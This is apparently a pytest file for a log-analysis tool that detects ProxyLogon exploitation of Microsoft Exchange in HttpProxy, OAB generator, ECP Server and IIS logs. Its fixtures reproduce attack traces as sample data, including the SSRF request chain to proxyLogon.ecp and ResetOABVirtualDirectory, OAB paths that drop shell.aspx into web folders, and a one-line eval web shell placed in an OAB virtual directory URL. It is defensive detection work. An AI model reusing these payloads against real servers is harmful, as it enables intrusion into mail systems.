"""ProxyLogon (CVE-2021-26855/26858/27065) in HttpProxy, OAB generator, ECP Server and IIS logs."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from exhunt.model import ArtefactKind, Implies, Severity
from test_log_samples import (
    benign_httpproxy,
    benign_iis,
    by_rule,
    evidence,
    httpproxy_log,
    httpproxy_row,
    iis_line,
    iis_log,
    rid,
    run,
    write,
)

ECP_LOG = "C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG"
ATTACKER = "203.0.113.66"
BACKEND = "ServerInfo~a]@EX01.corp.example:444/"


def chain_row(n: int, second: int, target: str, status: str, stem: str = "/ecp/y.js", ip: str = ATTACKER) -> str:
    return httpproxy_row(
        DateTime=f"2021-03-03T06:49:{second:02d}.699Z",
        RequestId=rid(9000 + n),
        Protocol="Ecp",
        UrlStem=stem,
        Method="POST",
        AuthenticationType="",
        IsAuthenticated="false",
        AuthenticatedUser="",
        AnchorMailbox=BACKEND + target,
        UserAgent="python-requests/2.25.1",
        ClientIpAddress=ip,
        HttpStatus=status,
        RoutingHint="X-BEResource-Cookie",
        BackEndCookie="",
    )


def test_ssrf_chain_to_ecp_is_a_compromise(tmp_path: Path) -> None:
    rows = benign_httpproxy(20)
    rows += [
        chain_row(1, 1, "autodiscover/autodiscover.xml?#", "200"),
        chain_row(2, 5, "mapi/emsmdb/?#", "200"),
        chain_row(3, 9, "ecp/proxyLogon.ecp?#", "241"),
        chain_row(4, 13, "ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary=x#", "200"),
        chain_row(5, 20, "ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=x#", "200"),
    ]
    rows += benign_httpproxy(20, start=500)
    write(tmp_path, ECP_LOG, httpproxy_log(rows))
    result = run("httpproxy-log", evidence(tmp_path, ECP_LOG, ArtefactKind.HTTPPROXY))

    ssrf = by_rule(result, "EXH-PL-26855-SSRF")
    assert [f.evidence.line for f in ssrf] == [27, 28, 29, 30]  # 5 preamble lines, 20 benign rows
    assert all(f.implies is Implies.COMPROMISE and f.severity is Severity.CRITICAL for f in ssrf)
    first = ssrf[0]
    assert first.evidence.path == ECP_LOG
    assert first.cves == ("CVE-2021-26855",) and first.chain == "ProxyLogon"
    assert first.source_ip == ATTACKER
    assert first.timestamp == datetime(2021, 3, 3, 6, 49, 5, 699000, tzinfo=UTC)
    assert first.detail("request_id") == rid(9002)
    assert first.detail("anchor_mailbox") == BACKEND + "mapi/emsmdb/?#"
    assert first.detail("ssrf_target") == "/mapi/emsmdb/?#"
    assert first.detail("user_agent") == "python-requests/2.25.1"
    assert first.detail("status") == "200" and first.detail("method") == "POST"
    assert first.detail("url") == "/ecp/y.js"
    assert "python-requests/2.25.1" in (first.evidence.excerpt or "")

    (auto,) = by_rule(result, "EXH-PL-26855-AUTODISCOVER")
    assert auto.evidence.line == 26 and auto.implies is Implies.ATTEMPT
    (reset,) = by_rule(result, "EXH-PL-27065-RESETVDIR")
    assert reset.evidence.line == 30 and "CVE-2021-27065" in reset.cves and reset.implies is Implies.COMPROMISE
    assert not result.errors and not result.suppressed
    span = result.coverage["HttpProxy"]
    assert span.files == 1 and span.records == 45
    assert span.first == datetime(2021, 3, 3, 6, 10, 0, 0, tzinfo=UTC)


def test_ssrf_that_was_not_served_is_an_attempt(tmp_path: Path) -> None:
    write(
        tmp_path,
        ECP_LOG,
        httpproxy_log(
            [
                *benign_httpproxy(5),
                chain_row(1, 1, "ecp/proxyLogon.ecp?#", "500"),
                chain_row(2, 2, "owa/auth/logon.aspx?#", "200"),
            ]
        ),
    )
    result = run("httpproxy-log", evidence(tmp_path, ECP_LOG, ArtefactKind.HTTPPROXY))
    ssrf = by_rule(result, "EXH-PL-26855-SSRF")
    assert len(ssrf) == 2
    assert all(f.implies is Implies.ATTEMPT and f.severity is Severity.HIGH for f in ssrf)


def test_autodiscover_only_is_an_attempt_never_a_compromise(tmp_path: Path) -> None:
    rows = [chain_row(i, i, "autodiscover/autodiscover.xml?#", "200", ip="198.51.100.4") for i in range(30)]
    write(tmp_path, ECP_LOG, httpproxy_log([*benign_httpproxy(10), *rows]))
    result = run("httpproxy-log", evidence(tmp_path, ECP_LOG, ArtefactKind.HTTPPROXY))
    assert {f.rule_id for f in result.findings} == {"EXH-PL-26855-AUTODISCOVER"}
    assert all(f.implies is Implies.ATTEMPT for f in result.findings)
    assert len(result.findings) == 20  # capped per source and file; the rest is counted
    (((rule_id, reason), n),) = result.suppressed.items()
    assert rule_id == "EXH-PL-26855-AUTODISCOVER" and n == 10 and "first 20" in reason


def test_appending_autodiscover_does_not_hide_an_ecp_target(tmp_path: Path) -> None:
    write(tmp_path, ECP_LOG, httpproxy_log([chain_row(1, 1, "ecp/proxyLogon.ecp?/autodiscover#", "241")]))
    result = run("httpproxy-log", evidence(tmp_path, ECP_LOG, ArtefactKind.HTTPPROXY))
    (f,) = result.findings
    assert f.rule_id == "EXH-PL-26855-SSRF" and f.implies is Implies.COMPROMISE


def test_localhost_scanner_probes_are_only_counted(tmp_path: Path) -> None:
    probe = dict(
        Protocol="Owa",
        UrlStem="/owa/auth/x.js",
        AuthenticatedUser="",
        IsAuthenticated="false",
        AnchorMailbox="ServerInfo~localhost/ecp/default.flt?",
        RoutingHint="X-AnonResource-Backend-Cookie",
        TargetServer="localhost",
        TargetServerVersion="0.00.0003.000",
        HttpStatus="500",
        UserAgent="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    )
    rows = [httpproxy_row(ClientIpAddress=f"192.0.2.{i}", RequestId=rid(700 + i), **probe) for i in range(7)]
    log = "C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Owa/HttpProxy_2021030712-1.LOG"
    write(tmp_path, log, httpproxy_log([*benign_httpproxy(15), *rows, *benign_httpproxy(3, start=50)]))
    result = run("httpproxy-log", evidence(tmp_path, log, ArtefactKind.HTTPPROXY))
    assert result.findings == []
    (((rule_id, reason), n),) = result.suppressed.items()
    assert rule_id == "EXH-PL-26855-SSRF" and n == 7 and "localhost" in reason


def test_exporttool_version_scans_are_reconnaissance_only(tmp_path: Path) -> None:
    scan = dict(
        Protocol="Ecp",
        UrlStem="/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
        AuthenticatedUser="",
        AnchorMailbox="ServerVersion~Version 15.0 (Build 0.0)",
        UserAgent="Mozilla/5.0 zgrab/0.x",
        RoutingHint="EDiscoveryExportTool-ServerVersion",
    )
    rows = [httpproxy_row(ClientIpAddress="198.51.100.8", RequestId=rid(800 + i), **scan) for i in range(5)]
    rows.append(httpproxy_row(ClientIpAddress="198.51.100.9", **scan))
    write(tmp_path, ECP_LOG, httpproxy_log([*benign_httpproxy(4), *rows]))
    result = run("httpproxy-log", evidence(tmp_path, ECP_LOG, ArtefactKind.HTTPPROXY))
    assert {f.rule_id for f in result.findings} == {"EXH-RECON-EXPORTTOOL"}
    assert [f.source_ip for f in result.findings] == ["198.51.100.8", "198.51.100.9"]
    assert all(f.implies is Implies.NOTHING and f.category == "reconnaissance" for f in result.findings)
    assert sum(result.suppressed.values()) == 4


def test_forged_backend_cookie_is_a_second_anchor(tmp_path: Path) -> None:
    row = httpproxy_row(
        Protocol="Ecp",
        UrlStem="/ecp/x.js",
        AnchorMailbox="",
        HttpStatus="200",
        BackEndCookie="Server~EX01.corp.example:444/ecp/proxyLogon.ecp?~1942062522",
        ClientIpAddress=ATTACKER,
    )
    both = chain_row(2, 2, "ecp/proxyLogon.ecp?#", "241").replace(
        "Database~6f1c1a2b", "Server~EX01/ecp/a~1,Database~6f1c1a2b"
    )  # would match too: reported once
    write(tmp_path, ECP_LOG, httpproxy_log([*benign_httpproxy(3), row, both]))
    result = run("httpproxy-log", evidence(tmp_path, ECP_LOG, ArtefactKind.HTTPPROXY))
    (cookie,) = by_rule(result, "EXH-PL-26855-BECOOKIE")
    assert cookie.evidence.line == 9 and cookie.implies is Implies.COMPROMISE
    assert cookie.detail("ssrf_target") == "/ecp/proxyLogon.ecp?"
    assert [f.evidence.line for f in by_rule(result, "EXH-PL-26855-SSRF")] == [10]


OAB_LOG = "C/Program Files/Microsoft/Exchange Server/V15/Logging/OABGeneratorLog/OABGenerator_2021030305-1.LOG"


def oab_message(path: str, minute: int) -> str:
    return (
        f"2021-03-03T05:{minute:02d}:11.123Z,Error,OABGenerator,Download failed and temporary file "
        f"'{path}' needs to be removed."
    )


def test_oab_download_outside_the_oab_folder(tmp_path: Path) -> None:
    oab = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB"
    lines = [f"2021-03-03T05:0{i}:00.000Z,Info,OABGenerator,Generating OAB {i}" for i in range(5)]
    lines += [
        oab_message(oab + "\\Temp\\ab12cd.tmp", 10),  # normal: counted, not reported
        oab_message("C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\lvdi.aspx", 11),
        oab_message(oab + "\\..\\..\\FrontEnd\\HttpProxy\\owa\\auth\\shell.aspx", 12),
        oab_message("\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx", 13),
    ]
    write(tmp_path, OAB_LOG, "\r\n".join(lines) + "\r\n")
    result = run("oab-generator-log", evidence(tmp_path, OAB_LOG, ArtefactKind.OAB_GENERATOR))
    hits = by_rule(result, "EXH-PL-26858-OAB-PATH")
    assert [f.evidence.line for f in hits] == [7, 8, 9]
    assert hits[0].detail("path") == "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\lvdi.aspx"
    assert hits[1].detail("normalised_path").endswith("V15\\FrontEnd\\HttpProxy\\owa\\auth\\shell.aspx")
    assert hits[0].timestamp == datetime(2021, 3, 3, 5, 11, 11, 123000, tzinfo=UTC)
    assert hits[0].cves == ("CVE-2021-26858",) and hits[0].implies is Implies.COMPROMISE
    assert sum(result.suppressed.values()) == 1
    assert result.coverage["OABGeneratorLog"].records == 9


def test_oab_install_elsewhere_and_unknown(tmp_path: Path) -> None:
    lines = [
        oab_message("D:\\Exchange\\ClientAccess\\OAB\\Temp\\x.tmp", 1),
        oab_message("C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\y.tmp", 2),
    ]
    write(tmp_path, OAB_LOG, "\r\n".join(lines) + "\r\n")
    ev = evidence(tmp_path, OAB_LOG, ArtefactKind.OAB_GENERATOR)
    # Installed on D: the C: path is not the generator's own folder.
    assert [f.evidence.line for f in run("oab-generator-log", ev, install="D:\\Exchange\\").findings] == [2]
    # Install root unknown: any \ClientAccess\OAB\ folder passes.
    assert run("oab-generator-log", ev, install=None).findings == []


ECP_SERVER = "C/Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/ECPServer20210303-1.LOG"


def ecp_line(minute: int, cmd: str) -> str:
    data = (
        f"S:TIME=120;S:SID=S-1-5-18;S:USID=S-1-5-21-1-2-3-500;{cmd};S:REQID=r{minute};"
        "S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:BLD=15.1.2176.2"
    )
    return f'2021-03-03T07:{minute:02d}:00.000Z,EX01,ECP.Request,"{data.replace(chr(34), chr(34) * 2)}"'


def test_script_in_oab_virtual_directory_url(tmp_path: Path) -> None:
    shell = (
        '\'S:CMD=Set-OabVirtualDirectory.ExternalUrl=\'\'http://f/<script language="JScript" runat="server">'
        "function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>''.Identity=''3f1a-11'''"
    )
    lines = [
        "#Software: Microsoft Exchange Server",
        "#Version: 15.0.0.0",
        "#Log-type: ECP Server Log",
        "#Date: 2021-03-03T07:00:00.000Z",
        "#Fields: TimeStamp,ServerName,EventId,EventData",
        ecp_line(1, "'S:CMD=Get-OabVirtualDirectory.Identity=''3f1a-11'''"),
        ecp_line(2, "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''https://mail.corp.example/OAB''.Identity=''x'''"),
        ecp_line(3, shell),
        ecp_line(4, "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=$null.Identity=''3f1a-11'''"),
        ecp_line(5, "'S:CMD=Set-OwaVirtualDirectory.Identity=''owa''.LogonFormat=''<b>bold</b>'''"),
    ]
    write(tmp_path, ECP_SERVER, "\r\n".join(lines) + "\r\n")
    result = run("ecp-server-log", evidence(tmp_path, ECP_SERVER, ArtefactKind.ECP_SERVER))
    (f,) = result.findings
    assert f.rule_id == "EXH-PL-27065-ECP-VDIR-SCRIPT" and f.evidence.line == 8
    assert f.detail("cmdlet") == "Set-OabVirtualDirectory" and f.detail("parameter") == "ExternalUrl"
    assert 'eval(Request["klk123456"]' in (f.detail("value") or "")
    assert f.detail("user_sid") == "S-1-5-18" and f.timestamp == datetime(2021, 3, 3, 7, 3, tzinfo=UTC)
    assert ("exchange_build", "15.1.2176.2") in {(o.kind, o.value) for o in result.observations}


IIS_FE = "C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"
IIS_BE = "C/inetpub/logs/LogFiles/W3SVC2/u_ex210303.log"


def test_iis_entry_points_and_scanner_gets(tmp_path: Path) -> None:
    attack = {"c-ip": ATTACKER, "cs(User-Agent)": "ExchangeServicesClient/0.0.0.0", "cs-method": "POST"}
    lines = [
        *benign_iis(10),
        iis_line(
            **attack,
            **{
                "cs-uri-stem": "/ecp/y.js",
                "sc-status": "241",
                "time": "06:49:05",
                "cs-uri-query": f"&CorrelationID=<empty>;&cafeReqId={rid(9002)};",
            },
        ),
        iis_line(**attack, **{"cs-uri-stem": "/owa/auth/Current/themes/resources/logon.css", "sc-status": "500"}),
        iis_line(**attack, **{"cs-uri-stem": "/ecp/main.css", "sc-status": "200"}),
        iis_line(**{"cs-uri-stem": "/owa/auth/x.js", "sc-status": "500", "c-ip": "192.0.2.5"}),
        iis_line(**{"cs-uri-stem": "/owa/auth/Current/themes/resources/logon.css", "cs-method": "GET"}),
        *benign_iis(5, start=300),
    ]
    write(tmp_path, IIS_FE, iis_log(lines))
    result = run("iis-log", evidence(tmp_path, IIS_FE, ArtefactKind.IIS))
    entry = by_rule(result, "EXH-PL-IIS-SSRF-ENTRY")
    assert [f.evidence.line for f in entry] == [15, 16, 17]
    assert [(f.implies, f.severity) for f in entry] == [
        (Implies.COMPROMISE, Severity.CRITICAL),
        (Implies.ATTEMPT, Severity.MEDIUM),
        (Implies.ATTEMPT, Severity.HIGH),
    ]
    assert entry[0].detail("cafe_request_id") == rid(9002)
    assert entry[0].detail("published_user_agent") == "ExchangeServicesClient/0.0.0.0"
    assert entry[0].timestamp == datetime(2021, 3, 3, 6, 49, 5, tzinfo=UTC) and entry[0].source_ip == ATTACKER
    assert not by_rule(result, "EXH-PL-IIS-USER-AGENT")  # the stronger finding carries the user agent
    assert sum(result.suppressed.values()) == 1  # the GET to /owa/auth/x.js
    assert len(result.findings) == 3


def test_iis_back_end_vdir_reset_by_machine_account(tmp_path: Path) -> None:
    reset = {
        "cs-method": "POST",
        "cs-uri-stem": "/ecp/DDI/DDIService.svc/SetObject",
        "s-port": "444",
        "cs-uri-query": "schema=ResetOABVirtualDirectory&msExchEcpCanary=abc",
        "c-ip": "127.0.0.1",
    }
    lines = [
        iis_line(**reset, **{"cs-username": "CORP\\EX01$"}),
        iis_line(**reset, **{"cs-username": "CORP\\admin"}),
    ]  # an admin in the admin center: not reported
    write(tmp_path, IIS_BE, iis_log(lines))
    result = run("iis-log", evidence(tmp_path, IIS_BE, ArtefactKind.IIS))
    (f,) = result.findings
    assert f.rule_id == "EXH-PL-IIS-RESETVDIR" and f.evidence.line == 5
    assert f.detail("schema") == "ResetOABVirtualDirectory" and f.detail("machine_account") == "CORP\\EX01$"


def test_iis_published_user_agent_alone_is_suspicious(tmp_path: Path) -> None:
    ua = "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"
    lines = [
        iis_line(**{"cs-method": "POST", "cs-uri-stem": "/owa/auth.owa", "cs(User-Agent)": ua}),
        iis_line(**{"cs-method": "GET", "cs-uri-stem": "/owa/", "cs(User-Agent)": ua}),
    ]
    write(tmp_path, IIS_FE, iis_log(lines))
    result = run("iis-log", evidence(tmp_path, IIS_FE, ArtefactKind.IIS))
    (f,) = result.findings
    assert f.rule_id == "EXH-PL-IIS-USER-AGENT" and f.implies is Implies.SUSPICIOUS
    assert f.detail("published_user_agent") == "Baiduspider"


_START, _END = "Download failed and temporary file ", " needs to be removed"


@given(st.lists(st.sampled_from([_START, _END, "x", "'C:\\a.aspx'", "y" * 40, "needs", "Download"]), max_size=40))
def test_oab_path_is_found_as_the_bounded_regex_finds_it(parts: list[str]) -> None:
    from exhunt.analyzers.oab import between

    text = "".join(parts)
    m = re.search(re.escape(_START) + "(.{0,60}?)" + re.escape(_END), text)
    assert between(text, _START, _END, 60) == (m.group(1) if m else None)
